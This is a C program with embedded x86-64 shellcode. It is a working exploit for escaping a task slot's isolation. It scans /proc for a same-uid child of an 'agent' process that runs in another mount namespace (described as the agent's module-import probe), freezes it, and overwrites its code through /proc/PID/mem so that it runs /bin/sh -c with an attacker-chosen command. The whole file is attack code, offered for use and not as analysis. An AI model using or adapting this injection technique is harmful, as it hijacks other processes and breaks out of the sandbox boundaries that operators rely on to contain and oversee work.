/* Run as a slot's task user: wait for a process of the same uid, child of the agent (ppid),
 * that lives outside this task's mount namespace (the agent's module-import probe, run with
 * popen_as as slot 0's user), stop it and make it execve /bin/sh -c CMD (via /proc/PID/mem). */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

extern char sc_start[], sc_cmd[];
__asm__(".text\n.globl sc_start\nsc_start:\n"
        "nop\nnop\n"
        "lea .Lpath(%rip), %rdi\n"
        "lea .Larg(%rip), %rax\n"
        "lea sc_cmd(%rip), %rbx\n"
        "and $-16, %rsp\n"
        "push $0\npush %rbx\npush %rax\npush %rdi\n"
        "mov %rsp, %rsi\nxor %edx, %edx\nmov $59, %eax\nsyscall\n"
        "mov $60, %eax\nxor %edi, %edi\nsyscall\n"
        ".Lpath: .asciz \"/bin/sh\"\n.Larg: .asciz \"-c\"\n"
        ".globl sc_cmd\nsc_cmd:\n");

static long ppid_of(int pid) {
    char p[64], buf[512];
    snprintf(p, sizeof p, "/proc/%d/stat", pid);
    int fd = open(p, O_RDONLY);
    if (fd < 0) return -1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return -1;
    buf[n] = 0;
    char *r = strrchr(buf, ')');
    if (!r) return -1;
    char st; long ppid;
    if (sscanf(r + 2, "%c %ld", &st, &ppid) != 2) return -1;
    return ppid;
}

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    long agent = atol(argv[1]);
    int seconds = atoi(argv[2]);
    const char *cmd = argv[3];
    char mine[128] = {0};
    if (readlink("/proc/self/ns/mnt", mine, sizeof mine - 1) < 0) return 3;
    uid_t me = getuid();
    time_t end = time(NULL) + seconds;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
            int pid = atoi(e->d_name);
            char p[64], ns[128] = {0};
            struct stat st;
            snprintf(p, sizeof p, "/proc/%d", pid);
            if (stat(p, &st) != 0 || st.st_uid != me) continue;
            if (ppid_of(pid) != agent) continue;
            snprintf(p, sizeof p, "/proc/%d/ns/mnt", pid);
            if (readlink(p, ns, sizeof ns - 1) < 0 || strcmp(ns, mine) == 0) continue;
            /* a process of my uid in the agent's namespaces, not my task's */
            kill(pid, SIGSTOP);
            char sys[256] = {0};
            for (int i = 0; i < 200; i++) {
                snprintf(p, sizeof p, "/proc/%d/syscall", pid);
                int fd = open(p, O_RDONLY);
                if (fd < 0) break;
                ssize_t n = read(fd, sys, sizeof sys - 1);
                close(fd);
                if (n > 0 && strncmp(sys, "running", 7) != 0) break;
                sys[0] = 0;
                usleep(1000);
            }
            char *last = strrchr(sys, ' ');
            if (!last) { kill(pid, SIGCONT); continue; }
            unsigned long pc = strtoul(last + 1, NULL, 16);
            size_t head = (size_t)(sc_cmd - sc_start), len = strlen(cmd) + 1;
            char *code = malloc(head + len);
            memcpy(code, sc_start, head);
            memcpy(code + head, cmd, len);
            snprintf(p, sizeof p, "/proc/%d/mem", pid);
            int mem = open(p, O_RDWR);
            ssize_t w = mem >= 0 ? pwrite(mem, code, head + len, (off_t)(pc - 2)) : -1;
            if (mem >= 0) close(mem);
            kill(pid, SIGCONT);
            printf("hijacked %d at %#lx (%zd bytes)\n", pid, pc, w);
            fflush(stdout);
            if (w > 0) return 0;
        }
        if (d) closedir(d);
    }
    printf("no probe seen\n");
    return 1;
}
